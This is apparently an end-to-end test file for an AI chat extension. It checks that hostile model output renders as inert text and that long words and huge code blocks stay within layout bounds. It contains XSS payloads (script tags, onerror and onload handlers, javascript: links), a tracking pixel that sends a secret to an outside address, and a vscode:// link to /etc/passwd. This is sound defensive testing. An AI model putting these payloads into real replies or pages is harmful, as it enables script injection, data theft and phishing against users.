import type { Request } from 'playwright-core';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { type Person, personAt, picturesOfFailures } from '../support/host/person.ts';
import { type BelayWindow, openBelay } from '../support/host/window.ts';
import { type ModelServer, startModelServer } from '../support/modelServer.ts';
import { say, script, turn } from '../support/script.ts';

const outside = 'http://127.0.0.1:9';

const markup = `Before the attack.

<script>window.parent.postMessage('x', '*'); document.body.dataset.ran = 'script'</script>
<img src="${outside}/html.png" onerror="document.body.dataset.ran = 'onerror'">
<iframe src="${outside}/frame.html"></iframe>
<svg onload="document.body.dataset.ran = 'svg'"></svg>
<style>body { background: url(${outside}/style.png) }</style>
<form action="${outside}/form"><button>Approve</button></form>

![tracking pixel](${outside}/pixel.png?secret=1)
![data](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)

[run me](command:workbench.action.terminal.new)
[script me](javascript:document.body.dataset.ran='link')
[vscode me](vscode://file/etc/passwd)
[https://bank.example](${outside}/bank)

After the attack.`;

const word = 'Donaudampfschifffahrt'.repeat(60);
const manyLines = Array.from({ length: 5000 }, (_, line) => `const value${line} = compute(${line}, "${line}");`);

const scenario = script('hostile', [
  turn('attack', [say(markup)]),
  turn('long word', [say(`A long word: ${word}\n\n\`${word}\`\n\n| ${word} | b |\n|--|--|\n| c | ${word} |`)]),
  turn('long code', { reply: [say(`\`\`\`ts\n${manyLines.join('\n')}\n\`\`\`\n\nThat was all of it.`)] }),
]);

let server: ModelServer;
let belay: BelayWindow;
let person: Person;
const foreign: string[] = [];

beforeAll(async () => {
  server = await startModelServer(scenario, { delayMs: 0 });
  belay = await openBelay({ modelUrl: server.url });
  person = personAt(belay);
  await person.composer.waitFor();
  const own = new URL(belay.page.url()).origin;
  belay.page.on('request', (request: Request) => {
    const inView = request.frame().parentFrame() !== null;
    const { origin, protocol } = new URL(request.url());
    const known =
      origin === own || ['data:', 'blob:'].includes(protocol) || /\.vscode-cdn\.net$|vscode-resource/.test(origin);
    if (inView && !known) foreign.push(request.url());
  });
});

picturesOfFailures(() => belay);

afterAll(async () => {
  await belay?.close();
  await server?.close();
});

test('markup of the model is text: nothing runs, nothing is fetched, and links lead nowhere else', async () => {
  await person.say('Please attack');
  await person.heard('After the attack.');
  const answer = person.conversation.locator('.row-text').last();
  expect(await answer.locator('script, iframe, img, svg, style, form, object').count()).toBe(0);
  expect(await belay.view.locator('body').getAttribute('data-ran')).toBeNull();
  const links = await answer.locator('a').evaluateAll((all) => all.map((link) => link.getAttribute('href')));
  expect(links.every((href) => href?.startsWith('http'))).toBe(true);
  await answer.getByText('run me').click();
  await answer.getByText('script me').click();
  await answer.getByText('(127.0.0.1:9)').waitFor();
  await belay.screenshot('hostile-markup');
  expect(await belay.view.locator('body').getAttribute('data-ran')).toBeNull();
  expect(await belay.page.locator('.terminal-wrapper').count()).toBe(0);
  expect(foreign).toEqual([]);
});

test('very long words break, and what is too wide scrolls by itself', async () => {
  await person.say('A long word');
  await person.heard('A long word:');
  await belay.screenshot('hostile-long-word');
  const wider = await belay.view.locator('.app').evaluate((app) => {
    const rows = [...app.querySelectorAll('.row')];
    return rows.filter((row) => row.scrollWidth > row.clientWidth + 1).map((row) => row.className);
  });
  expect(wider).toEqual([]);
});

test('a block of 5,000 lines of code is shown within bounds', async () => {
  await person.say('The long code');
  await person.heard('That was all of it.');
  const block = person.conversation.locator('.codeBlock').last();
  expect((await block.boundingBox())?.height ?? 0).toBeLessThan(500);
  await belay.screenshot('hostile-long-code');
  await person.composer.fill('still quick');
  expect(await person.composer.inputValue()).toBe('still quick');
  expect(foreign).toEqual([]);
});
